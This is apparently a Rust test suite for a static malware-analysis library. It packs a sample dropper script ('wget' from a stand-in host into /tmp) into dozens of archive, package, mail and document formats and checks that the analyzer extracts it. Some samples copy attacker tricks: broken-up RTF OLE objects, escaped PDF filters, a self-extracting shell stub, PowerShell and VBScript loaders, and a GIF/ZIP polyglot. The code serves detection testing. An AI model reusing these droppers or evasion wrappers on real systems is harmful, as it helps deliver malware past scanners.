//! Containers that the real tools make are taken apart to the last byte.

mod closed;
mod documents;
mod formats;
mod images;
mod upx;

use std::path::Path;
use std::process::Command;
use ukai_model::{Analysis, Outcome, Sha256, Timestamp};
use ukai_static::{Limits, analyze};

/// What is packed: a program with an address, and a text.
const PAYLOAD: &[u8] = b"#!/bin/sh\nwget http://dl.unpacked.example/mips -O /tmp/a\n";

fn run(folder: &Path, script: &str) {
    let output = Command::new("bash")
        .args(["-ec", script])
        .current_dir(folder)
        .output()
        .expect("bash is installed");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{script}: {said}");
}

fn analysis(bytes: &[u8]) -> Analysis {
    let limits = Limits::default();
    let analysis = analyze(bytes, Timestamp::from_secs(1_700_000_000), &limits, &mut |_| ());
    assert_eq!(analysis.outcome, Outcome::Complete);
    analysis
}

fn finds_payload(analysis: &Analysis, what: &str) {
    let payload = Sha256::of(PAYLOAD);
    assert!(
        analysis.members.iter().any(|member| member.sha256 == payload),
        "{what}: {:#?} {:?}",
        analysis
            .members
            .iter()
            .map(|it| (&it.container, &it.name, it.size, &it.file_type.name))
            .collect::<Vec<_>>(),
        analysis.notes
    );
    let url = "http://dl.unpacked.example/mips";
    let found = analysis.observables.iter().find(|it| it.observable.value == url);
    let found = found.unwrap_or_else(|| panic!("{what}: no URL"));
    // What is stored as it is was found in the container already.
    if let Some(layer) = found.layer {
        assert!((layer as usize) < analysis.members.len(), "{what}");
    }
}

#[test]
fn archives_of_the_real_tools() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    std::fs::write(folder.path().join("payload.sh"), PAYLOAD).expect("written");
    run(
        folder.path(),
        "head -c 20000 /bin/ls > other
        gzip -k payload.sh; bzip2 -k payload.sh; xz -k payload.sh; zstd -q payload.sh
        lzip -k payload.sh; xz --format=lzma -k payload.sh
        lz4 -q payload.sh payload.sh.lz4; lz4 -q -l payload.sh legacy.lz4; lzop payload.sh; lzop -F -9 -o sums.lzo payload.sh
        head -c 600000 /bin/bash > long; tar cf t.tar long payload.sh; lz4 -q t.tar t.tar.lz4; lzop t.tar
        for bits in 10 12 16; do compress -f -b $bits -c t.tar > t.$bits.Z; done
        tar cf a.tar other payload.sh; tar czf a.tgz other payload.sh
        tar --format=v7 -cf v7.tar payload.sh; tar --format=pax -cJf pax.txz other payload.sh
        zip -q a.zip other payload.sh; zip -q -0 stored.zip payload.sh
        zip -q -Z bzip2 bzip2.zip payload.sh other
        for method in LZMA PPMd Deflate64; do 7zz a -tzip -mm=$method $method.zip other payload.sh > /dev/null; done
        for method in LZMA LZMA2 PPMd BZip2 Deflate Copy; do 7zz a -m0=$method $method.7z other payload.sh > /dev/null; done
        7zz a -mf=BCJ -m0=LZMA2 solid.7z other payload.sh > /dev/null
        for form in newc crc odc bin ustar; do printf 'other\\npayload.sh\\n' | cpio --quiet -o -H $form > $form.cpio; done
        ar qc a.ar other payload.sh
        cp payload.sh a-name-that-is-longer-than-sixteen.sh; ar qc long.ar a-name-that-is-longer-than-sixteen.sh
        gcab -c plain.cab other payload.sh > /dev/null; gcab -c -z zipped.cab other payload.sh > /dev/null
        mkdir d; cp payload.sh other d
        genisoimage -quiet -J -R -o joliet.iso d 2> /dev/null; genisoimage -quiet -o plain.iso d 2> /dev/null
        uuencode payload.sh x < payload.sh > a.uu; uuencode -m payload.sh x < payload.sh > base64.uu
        mkdir -p deb/DEBIAN deb/usr/bin; cp payload.sh deb/usr/bin
        printf 'Package: x\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@y.example>\\nDescription: x\\n' > deb/DEBIAN/control
        dpkg-deb -Zxz -b deb a.deb > /dev/null; dpkg-deb -Zgzip -b deb gzip.deb > /dev/null
        printf 'Name: x\\nVersion: 1\\nRelease: 1\\nSummary: x\\nLicense: x\\nBuildArch: noarch\\n%%description\\nx\\n%%install\\nmkdir -p %%{buildroot}/opt\\ncp %%{_sourcedir}/payload.sh %%{buildroot}/opt\\n%%files\\n/opt/payload.sh\\n' > x.spec
        rpmbuild -bb --quiet --define \"_topdir $PWD/rpm\" --define \"_sourcedir $PWD\" --define '_build_id_links none' x.spec > /dev/null 2>&1
        cp rpm/RPMS/noarch/*.rpm a.rpm",
    );
    for file in [
        "payload.sh.gz",
        "payload.sh.bz2",
        "payload.sh.xz",
        "payload.sh.zst",
        "payload.sh.lz",
        "payload.sh.lzma",
        "payload.sh.lz4",
        "legacy.lz4",
        "payload.sh.lzo",
        "sums.lzo",
        "t.tar.lz4",
        "t.tar.lzo",
        "t.10.Z",
        "t.12.Z",
        "t.16.Z",
        "a.tar",
        "a.tgz",
        "v7.tar",
        "pax.txz",
        "a.zip",
        "stored.zip",
        "bzip2.zip",
        "LZMA.zip",
        "PPMd.zip",
        "Deflate64.zip",
        "LZMA.7z",
        "LZMA2.7z",
        "PPMd.7z",
        "BZip2.7z",
        "Deflate.7z",
        "Copy.7z",
        "solid.7z",
        "newc.cpio",
        "crc.cpio",
        "odc.cpio",
        "bin.cpio",
        "ustar.cpio",
        "a.ar",
        "long.ar",
        "plain.cab",
        "zipped.cab",
        "joliet.iso",
        "plain.iso",
        "a.uu",
        "base64.uu",
        "a.deb",
        "gzip.deb",
        "a.rpm",
    ] {
        let bytes = std::fs::read(folder.path().join(file)).expect(file);
        let analysis = analysis(&bytes);
        finds_payload(&analysis, file);
        if file == "joliet.iso" || file == "long.ar" || file == "LZMA2.7z" {
            let named = analysis
                .members
                .iter()
                .any(|it| it.name.as_ref().is_some_and(|name| name.as_bytes().ends_with(b".sh")));
            assert!(named, "{file}");
        }
    }
}

#[test]
fn passwords_known_and_found() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    std::fs::write(folder.path().join("payload.sh"), PAYLOAD).expect("written");
    run(
        folder.path(),
        "zip -q -P infected crypto.zip payload.sh
        7zz a -tzip -mem=AES256 -pinfected aes.zip payload.sh > /dev/null
        7zz a -tzip -mem=AES128 -pvirus aes128.zip payload.sh > /dev/null
        7zz a -pinfected a.7z payload.sh > /dev/null
        7zz a -pinfected -mhe=on names.7z payload.sh > /dev/null
        zip -q -P 'Zq81-wax' found.zip payload.sh
        zip -q -P 'nobody-knows-this' closed.zip payload.sh",
    );
    let read = |file: &str| std::fs::read(folder.path().join(file)).expect("made");
    for (file, password) in [
        ("crypto.zip", "infected"),
        ("aes.zip", "infected"),
        ("aes128.zip", "virus"),
        ("a.7z", "infected"),
        ("names.7z", "infected"),
    ] {
        let analysis = analysis(&read(file));
        finds_payload(&analysis, file);
        let said = analysis.members[0].password.as_ref().expect("a password").as_bytes();
        assert_eq!(said, password.as_bytes(), "{file}");
    }
    // A mail that tells the password of what is attached.
    let encoded = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, read("found.zip"));
    let mail = format!(
        "From: a@sender.example\r\nTo: b@c.example\r\nSubject: your invoice\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n\
         Please find it attached. Password: Zq81-wax\r\n--x\r\nContent-Type: application/zip; \
         name=invoice.zip\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=invoice.zip\r\n\r\n{encoded}\r\n--x--\r\n"
    );
    let analysed = analysis(mail.as_bytes());
    finds_payload(&analysed, "mail");
    assert!(analysed.members.iter().any(|it| it.container == "mail part"
        && it.name.as_ref().is_some_and(|name| name.as_bytes() == b"invoice.zip")));
    // What nothing opens is said.
    let closed = analysis(&read("closed.zip"));
    assert!(closed.members.is_empty());
    assert!(closed.notes.iter().any(|note| note.contains("none of")), "{:?}", closed.notes);
}

#[test]
fn bombs_are_cut_and_said() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    run(
        folder.path(),
        "head -c 60000000 /dev/zero > zeros
        zip -q ratio.zip zeros; xz -k zeros; zstd -q zeros; 7zz a zeros.7z zeros > /dev/null
        for n in $(seq 1000); do echo $n > f$n; done; tar cf many.tar f*
        echo deep > x; cp x y
        for n in $(seq 20); do gzip -c y > z; mv z y; done",
    );
    let read = |file: &str| std::fs::read(folder.path().join(file)).expect("made");
    for file in ["ratio.zip", "zeros.xz", "zeros.zst", "zeros.7z"] {
        let analysis = analysis(&read(file));
        let most = (read(file).len() * Limits::default().ratio).max(4 << 20) as u64;
        assert!(analysis.members.iter().all(|it| it.size <= most), "{file}");
        assert!(
            analysis.notes.iter().any(|it| it.contains("limit")),
            "{file}: {:?}",
            analysis.notes
        );
    }
    let many = analysis(&read("many.tar"));
    assert_eq!(many.members.len(), Limits::default().members);
    assert!(many.notes.iter().any(|it| it.contains("not all members")), "{:?}", many.notes);
    let deep = analysis(&read("y"));
    assert_eq!(deep.members.len(), Limits::default().depth);
    assert!(deep.notes.iter().any(|it| it.contains("layers")), "{:?}", deep.notes);
}

#[test]
fn documents_and_texts() {
    let hexadecimal = |bytes: &[u8]| hex::encode(bytes);
    let base64 = |bytes: &[u8]| base64::Engine::encode(&base64::prelude::BASE64_STANDARD, bytes);
    let elf = &std::fs::read("/bin/true").expect("a Linux system")[..4000];
    // An RTF object: OLE 1, a package, digits broken up as exploits do it.
    let mut package = vec![2, 0];
    package.extend(b"a.sh\0C:\\a.sh\0\0\0\x03\0\x07\0\0\0C:\\a.sh");
    package.truncate(package.len() - 7);
    package.extend(b"C:\\a.s\0");
    package.extend((PAYLOAD.len() as u32).to_le_bytes());
    package.extend(PAYLOAD);
    let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0];
    object.extend(b"Package\0");
    object.extend([0; 8]);
    object.extend((package.len() as u32).to_le_bytes());
    object.extend(package);
    let digits = hexadecimal(&object);
    let (first, second) = digits.split_at(31);
    let rtf = format!(
        "{{\\rtf1{{\\object\\objemb{{\\*\\objdata {first}{{\\*\\x 99}}\r\n\\bar {second}}}}}}}"
    );
    // A PDF with a compressed script, the filter's name escaped.
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut packed, PAYLOAD).expect("memory");
    let packed = packed.finish().expect("memory");
    let mut pdf =
        b"%PDF-1.7\n1 0 obj\n<</Type/EmbeddedFile/Filter/Fl#61teDecode>>\nstream\r\n".to_vec();
    pdf.extend(packed);
    pdf.extend(b"\nendstream\nendobj\n");
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("rtf", rtf.into_bytes()),
        ("pdf", pdf),
        (
            "base64 in a script",
            format!("#!/usr/bin/python3\nx = '{}'\n", base64(PAYLOAD)).into_bytes(),
        ),
        ("hex in a script", format!("<?php $x = '{}'; ?>\n", hexadecimal(PAYLOAD)).into_bytes()),
        ("behind a script", [b"#!/bin/sh\ntail -n +3 $0 | sh\nexit\n\0", PAYLOAD].concat()),
        ("polyglot", [b"GIF89a\x01\0\x01\0", zipped().as_slice()].concat()),
    ];
    for (what, bytes) in cases {
        finds_payload(&analysis(&bytes), what);
    }
    let text = format!("$a = '{}'\nInvoke-Expression $a; New-Object x", base64(elf));
    let members = analysis(text.as_bytes()).members;
    assert!(members.iter().any(|it| it.sha256 == Sha256::of(elf)), "{members:?}");
    let list: Vec<String> = elf.iter().map(|byte| format!("0x{byte:02x}")).collect();
    let text = format!("Dim x\nx = Array({})\nCreateObject(\"WScript.Shell\")\n", list.join(", "));
    let members = analysis(text.as_bytes()).members;
    assert!(members.iter().any(|it| it.sha256 == Sha256::of(elf)), "{members:?}");
}

fn zipped() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("a.sh", zip::write::SimpleFileOptions::default()).expect("memory");
    std::io::Write::write_all(&mut zip, PAYLOAD).expect("memory");
    zip.finish().expect("memory").into_inner()
}

/// Office's container, made by the crate that reads it: the tests' machine has no Office.
#[test]
fn ole_streams() {
    let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("memory");
    let mut stream = file.create_stream("/payload").expect("memory");
    std::io::Write::write_all(&mut stream, PAYLOAD).expect("memory");
    drop(stream);
    let bytes = file.into_inner().into_inner();
    let analysis = analysis(&bytes);
    finds_payload(&analysis, "ole");
    assert_eq!(analysis.members[0].name.as_ref().expect("a name").as_bytes(), b"payload");
}
